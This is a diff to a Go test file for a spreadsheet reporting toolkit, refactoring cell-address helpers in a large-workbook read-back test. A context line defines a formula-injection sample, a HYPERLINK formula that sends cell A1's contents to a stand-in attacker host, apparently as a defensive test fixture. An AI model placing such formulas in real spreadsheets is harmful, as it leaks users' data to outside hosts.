@@ -13,6 +13,7 @@ import (
 	"github.com/xuri/excelize/v2"
 
 	"github.com/bluelight-wellbeing/toolkit/reports/figure"
+	"github.com/bluelight-wellbeing/toolkit/reports/xlsxdoc"
 )
 
 const hyperlink = `=HYPERLINK("http://evil.example/?"&A1,"Click")`
@@ -376,13 +377,13 @@ func TestLargeWorkbookReadsBack(t *testing.T) {
 	if got := get(t, f, SheetOrganisations, "A1001"); got != last.Name {
 		t.Errorf("last organisation %q, want %q", got, last.Name)
 	}
-	if got, want := get(t, f, SheetOrganisations, cell(7+80, 1001), raw), strconv.FormatFloat(last.Values[79].V, 'f', -1, 64); got != want {
+	if got, want := get(t, f, SheetOrganisations, xlsxdoc.Cell(7+80, 1001), raw), strconv.FormatFloat(last.Values[79].V, 'f', -1, 64); got != want {
 		t.Errorf("last cell %q, want %q", got, want)
 	}
 	if got := get(t, f, SheetSubmission, "G6"); got != "All sectors" {
 		t.Errorf("count table G6 = %q", got)
 	}
-	if got, want := get(t, f, SheetDistributions, cell(1, len(w.Distributions)+1)), "Peer group: Peer 11"; got != want {
+	if got, want := get(t, f, SheetDistributions, xlsxdoc.Cell(1, len(w.Distributions)+1)), "Peer group: Peer 11"; got != want {
 		t.Errorf("last distribution %q, want %q", got, want)
 	}
 }
